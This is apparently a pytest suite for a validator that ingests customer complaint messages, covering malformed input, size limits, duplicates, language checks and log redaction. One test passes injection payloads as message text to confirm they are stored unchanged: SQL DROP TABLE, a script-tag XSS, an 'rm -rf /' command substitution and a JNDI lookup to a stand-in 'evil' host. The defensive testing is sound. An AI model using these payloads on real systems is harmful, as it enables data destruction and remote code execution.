import json
from datetime import UTC, datetime

import pytest

from pipeline.ingest.files import FieldMap
from pipeline.ingest.validate import IngestLimits, Reason, Rejection, Unreadable, Validator, raw_text
from pipeline.schema import Author, Channel, Message

GOOD = {"id": "m1", "text": "My parcel never arrived and nobody answers the phone", "channel": "chat"}
SPANISH = "Hola, mi paquete nunca llegó y nadie contesta el teléfono, es la tercera vez que escribo"


def _fixed_clock() -> datetime:
    return datetime(2026, 1, 31, 9, 30, tzinfo=UTC)


def _rejected(result) -> Rejection:
    assert isinstance(result, Rejection), f"expected a rejection, got {result!r}"
    assert result.reason and result.detail
    return result


@pytest.mark.parametrize("payload", [json.dumps(GOOD), json.dumps(GOOD).encode(), GOOD,
                                     "\ufeff" + json.dumps(GOOD), b"\xef\xbb\xbf" + json.dumps(GOOD).encode()])
def test_a_valid_record_becomes_a_message_whatever_form_it_arrives_in(payload):
    message = Validator().validate(payload, source="test")
    assert isinstance(message, Message)
    assert (message.id, message.channel, message.author) == ("m1", Channel.chat, Author.customer)


def test_unknown_fields_are_kept_in_metadata_and_integer_ids_become_strings():
    message = Validator().validate({**GOOD, "id": 42, "conversation_id": 7, "reach": 1200,
                                    "timestamp": "2026-01-31T09:30:00+01:00"})
    assert isinstance(message, Message)
    assert (message.id, message.conversation_id, message.metadata) == ("42", "7", {"reach": 1200})
    assert message.timestamp.utcoffset().total_seconds() == 3600


# payload, reason, field, a phrase of the fix the detail must carry
CASES = [
    ("{not json", Reason.malformed_json, "<record>", "one JSON object per record"),
    ('{"id": "a", "text": "x"} trailing', Reason.malformed_json, "<record>", "one JSON object"),
    ('{"id": "a", "text": "fine words here", "reach": NaN}', Reason.malformed_json, "<record>", "plain JSON numbers"),
    ('{"id": "a", "n": ' + "9" * 5000 + "}", Reason.malformed_json, "<record>", "plain JSON numbers"),
    ("[" * 100_000, Reason.malformed_json, "<record>", "flat object"),
    ("   ", Reason.malformed_json, "<record>", "one JSON object"),
    ("[1, 2]", Reason.not_an_object, "<record>", "one object per record"),
    ("null", Reason.not_an_object, "<record>", "one object per record"),
    (b"\xff\xfe{}", Reason.invalid_encoding, "<record>", "encoded as UTF-8"),
    (b"x" * 300_000, Reason.oversized_record, "<record>", "shorten the text"),
    ({"id": "a", "text": "hi", "blob": "x" * 300_000}, Reason.oversized_record, "<record>", "shorten the text"),
    ({"id": "a"}, Reason.missing_field, "text", "message text in 'text'"),
    ({"text": "hello there"}, Reason.missing_field, "id", "unique id in 'id'"),
    ({"id": "a", "text": 42}, Reason.wrong_type, "text", "as a JSON string"),
    ({"id": ["a"], "text": "hi"}, Reason.wrong_type, "id", "string or integer id"),
    ({"id": True, "text": "hi"}, Reason.wrong_type, "id", "string or integer id"),
    ({"id": "a", "text": "hi", "customer_id": {"x": 1}}, Reason.wrong_type, "customer_id", "string or integer id"),
    ({"id": "a", "text": "hi", "metadata": [1]}, Reason.wrong_type, "metadata", "JSON object"),
    ({"id": "a", "text": "hi", "channel": "fax"}, Reason.invalid_field, "channel", "query, chat, social, email"),
    ({"id": "a", "text": "hi", "author": "bot"}, Reason.invalid_field, "author", "customer or agent"),
    ({"id": "a", "text": "hi", "timestamp": "2026-01-31T09:30:00"}, Reason.invalid_field, "timestamp", "with an offset"),
    ({"id": "a", "text": "hi", "timestamp": "last tuesday"}, Reason.invalid_field, "timestamp", "ISO 8601"),
    ({"id": "a", "text": "hi", "timestamp": [2026]}, Reason.wrong_type, "timestamp", "ISO 8601"),
    ({"id": "", "text": "hi"}, Reason.invalid_field, "id", "non-empty id"),
    ({"id": "a" * 129, "text": "hi"}, Reason.invalid_field, "id", "shorter id"),
    ({"id": "a\x00b", "text": "hi"}, Reason.invalid_field, "id", "printable UTF-8"),
    ({"id": "a", "text": "hi", "metadata": {"x": float("inf")}}, Reason.invalid_field, "metadata", "finite numbers"),
    ({"id": "a", "text": "hi", "metadata": {"x": {1, 2}}}, Reason.invalid_field, "metadata", "plain JSON"),
    ({"id": "a", "text": "hi", "deep": json.loads("[" * 40 + "]" * 40)}, Reason.invalid_field, "metadata", "flatter"),
    ('{"id": "a", "text": "hi", "note": "\\ud800"}', Reason.invalid_field, "metadata", "valid UTF-8"),
    ({"id": "a", "text": "   \n\t"}, Reason.empty_text, "text", "send the message body"),
    ({"id": "a", "text": "x" * 5001}, Reason.oversized_text, "text", "split the message"),
    ({"id": "a", "text": "hello\x00world"}, Reason.binary_text, "text", "send plain text"),
    ({"id": "a", "text": "bell \x07 rings"}, Reason.binary_text, "text", "send plain text"),
    ('{"id": "a", "text": "broken \\udc00 half"}', Reason.binary_text, "text", "send plain text"),
    ({"id": "a", "text": SPANISH}, Reason.unsupported_language, "text", "accepted ingest languages"),
]


@pytest.mark.parametrize(("payload", "reason", "field", "fix"), CASES, ids=[f"{c[1].value}-{i}" for i, c in enumerate(CASES)])
def test_every_rejection_names_its_reason_field_and_fix(payload, reason, field, fix):
    rejection = _rejected(Validator(clock=_fixed_clock).validate(payload, source="unit"))
    assert (rejection.reason, rejection.field) == (reason, field)
    assert fix in rejection.detail
    assert rejection.source == "unit" and rejection.received_at == _fixed_clock()
    rejection.raw.encode("utf-8")  # always storable


def test_every_reason_but_the_internal_ones_is_exercised():
    """webhook_failed is the outbound webhook's (tests/stream/test_webhook.py), not the validator's."""
    covered = {case[1] for case in CASES} | {Reason.duplicate_id}
    assert set(Reason) - covered == {Reason.unreadable_record, Reason.validator_fault, Reason.webhook_failed}


def test_a_duplicate_id_is_refused_within_the_window_and_accepted_after_it():
    validator = Validator(IngestLimits(duplicate_window=2, languages=()))
    assert isinstance(validator.validate({"id": "a", "text": "one"}), Message)
    duplicate = _rejected(validator.validate({"id": "a", "text": "again"}))
    assert (duplicate.reason, duplicate.field, duplicate.message_id) == (Reason.duplicate_id, "id", "a")
    assert "own id" in duplicate.detail
    for other in ("b", "c"):
        validator.validate({"id": other, "text": "more"})
    assert isinstance(validator.validate({"id": "a", "text": "a is out of the window now"}), Message)


def test_a_rejected_record_does_not_take_its_id_so_the_corrected_resend_is_accepted():
    validator = Validator()
    assert _rejected(validator.validate({**GOOD, "channel": "fax"})).reason == Reason.invalid_field
    assert isinstance(validator.validate(GOOD), Message)


def test_no_duplicate_check_with_a_zero_window():
    validator = Validator(IngestLimits(duplicate_window=0))
    assert all(isinstance(validator.validate(GOOD), Message) for _ in range(3))


def test_a_record_without_id_takes_the_default_the_source_offers():
    message = Validator().validate({"text": "hello there"}, default_id="in.csv:7")
    assert isinstance(message, Message) and message.id == "in.csv:7"


def test_custom_field_names_and_rejections_name_the_sources_own_field():
    validator = Validator(fields=FieldMap(text="body", id="tweet_id"))
    message = validator.validate({"tweet_id": 9, "body": "my order is late again"})
    assert isinstance(message, Message) and (message.id, message.text) == ("9", "my order is late again")
    assert _rejected(validator.validate({"tweet_id": 10})).field == "body"


@pytest.mark.parametrize("text", ["@Airline ??", "ok thanks", "merci", "@DeltaAssist gracias!!", "Danke schön 🙏",
                                  "lol wtf @comcast", "#fail #fail #fail https://t.co/abcdef"])
def test_short_texts_are_never_rejected_as_foreign(text):
    assert isinstance(Validator().validate({"id": "s", "text": text}), Message)


def test_the_language_check_can_be_widened_or_turned_off():
    assert isinstance(Validator(IngestLimits(languages=("en", "es"))).validate({"id": "a", "text": SPANISH}), Message)
    assert isinstance(Validator(IngestLimits(languages=())).validate({"id": "a", "text": SPANISH}), Message)


def test_no_real_english_complaint_tweet_is_rejected(complaint_tweets):
    validator = Validator()
    results = [validator.validate({"id": f"t{i}", "text": text}) for i, text in enumerate(complaint_tweets["text"])]
    rejected = [(r.reason, r.detail) for r in results if isinstance(r, Rejection)]
    assert len(results) == 2759 and rejected == []


@pytest.mark.parametrize("text", [
    "Robert'); DROP TABLE dead_letters;-- my refund still has not arrived after three weeks",
    "<script>alert('x')</script> your website checkout is broken again and I was charged twice",
    "$(rm -rf /) && echo pwned; my internet has been down since Monday and nobody calls back",
    "{{7*7}} ${jndi:ldap://evil/a} the app crashes every time I open my account page",
])
def test_hostile_looking_text_is_just_text(text):
    message = Validator().validate(json.dumps({"id": "h", "text": text}).encode())
    assert isinstance(message, Message) and message.text == text


def test_already_built_messages_get_the_checks_that_still_apply():
    validator = Validator(IngestLimits(max_text_chars=50))
    ok = Message(id="m", text="the parcel is late")
    assert validator.message(ok) is ok
    assert _rejected(validator.message(ok)).reason == Reason.duplicate_id
    assert _rejected(validator.message(Message(id="n", text="x" * 51))).reason == Reason.oversized_text
    rejection = _rejected(validator.validate(Message(id="o", text="nul\x00byte"), source="replay"))
    assert (rejection.reason, rejection.message_id, rejection.source) == (Reason.binary_text, "o", "replay")
    assert json.loads(rejection.raw)["id"] == "o"


def test_unreadable_records_from_a_source_become_rejections_too():
    rejection = _rejected(Validator().validate(Unreadable("line 3: stray quote: fix the quoting", 'a,"b\n')))
    assert (rejection.reason, rejection.field, rejection.raw) == (Reason.unreadable_record, "<record>", 'a,"b\n')


def test_raw_payload_is_kept_as_text_bounded_and_storable():
    assert raw_text(b"ok \xff\xfe end", 100) == "ok \\xff\\xfe end"
    assert raw_text("lone \ud800 surrogate", 100) == "lone \\ud800 surrogate"
    cut = raw_text("y" * 1000, 10)
    assert cut.startswith("y" * 10) and "truncated: 1,000 characters in all" in cut
    assert "truncated: 5,000 bytes" in raw_text(b"z" * 5000, 100)
    assert raw_text({"a": 1}, 100) == '{"a": 1}'
    rejection = _rejected(Validator(IngestLimits(max_raw_chars=64)).validate(b"\x00" * 300_000))
    assert rejection.reason == Reason.oversized_record and len(rejection.raw) < 400


@pytest.mark.parametrize("payload", [
    json.dumps({**GOOD, "channel": "fax", "notes": "n" * 200_000}),
    json.dumps({**GOOD, "channel": "fax", "notes": "n" * 200_000}).encode(),
    {**GOOD, "channel": "fax", "notes": "n" * 200_000},
])
def test_a_rejected_record_within_the_size_limit_is_kept_whole_for_replay(payload):
    rejection = _rejected(Validator().validate(payload))
    assert rejection.reason == Reason.invalid_field and "truncated" not in rejection.raw
    assert json.loads(rejection.raw)["notes"] == "n" * 200_000  # replayable as it came


def test_undecodable_bytes_within_the_limit_are_kept_whole_however_long_their_escapes():
    payload = b'{"id": "m1", "text": "' + b"\xff" * 100_000 + b'"}'
    rejection = _rejected(Validator().validate(payload))
    assert rejection.reason == Reason.invalid_encoding and "truncated" not in rejection.raw
    assert rejection.raw.encode("utf-8").decode("unicode_escape").encode("latin-1") == payload


@pytest.mark.parametrize("payload", [
    {"id": "m1", "text": "hi", "blob": "x" * 5_000_000},
    {"id": "m1", "text": "hi", "metadata": {"scan": "é" * 200_000}},  # 400,000 bytes in 200,000 characters
])
def test_a_mapping_over_the_byte_limit_is_refused_as_oversized_and_only_it_is_cut(payload):
    rejection = _rejected(Validator(clock=_fixed_clock).validate(payload, source="http"))
    assert (rejection.reason, rejection.field) == (Reason.oversized_record, "<record>")
    assert "bytes as JSON, more than the 262,144 allowed" in rejection.detail
    assert len(rejection.raw) < 17_000 and "characters in all]" in rejection.raw  # cut, saying how large


def test_the_log_line_of_a_rejection_redacts_personal_data_and_leaves_the_payload_out():
    validator = Validator(IngestLimits(languages=()))
    validator.validate({"id": "jane.doe@example.com", "text": "card 4111 1111 1111 1111"})
    rejection = _rejected(validator.validate({"id": "jane.doe@example.com", "text": "card 4111 1111 1111 1111"}))
    assert "jane.doe@example.com" in rejection.detail  # the detail is for the dead-letter store
    line = str(rejection)
    assert "jane.doe" not in line and "4111" not in line and "[EMAIL]" in line


@pytest.mark.parametrize(("kwargs", "fragment"), [
    ({"max_text_chars": 0}, "max_text_chars"), ({"duplicate_window": -1}, "use 0"), ({"languages": "en"}, "tuple"),
])
def test_limits_refuse_settings_that_make_no_sense(kwargs, fragment):
    with pytest.raises(ValueError, match=fragment):
        IngestLimits(**kwargs)


def test_an_id_can_be_forgotten_when_its_message_was_never_delivered():
    validator = Validator()
    assert isinstance(validator.validate(GOOD), Message)
    validator.forget("m1")  # e.g. the sink failed and the source will redeliver
    assert isinstance(validator.validate(GOOD), Message)
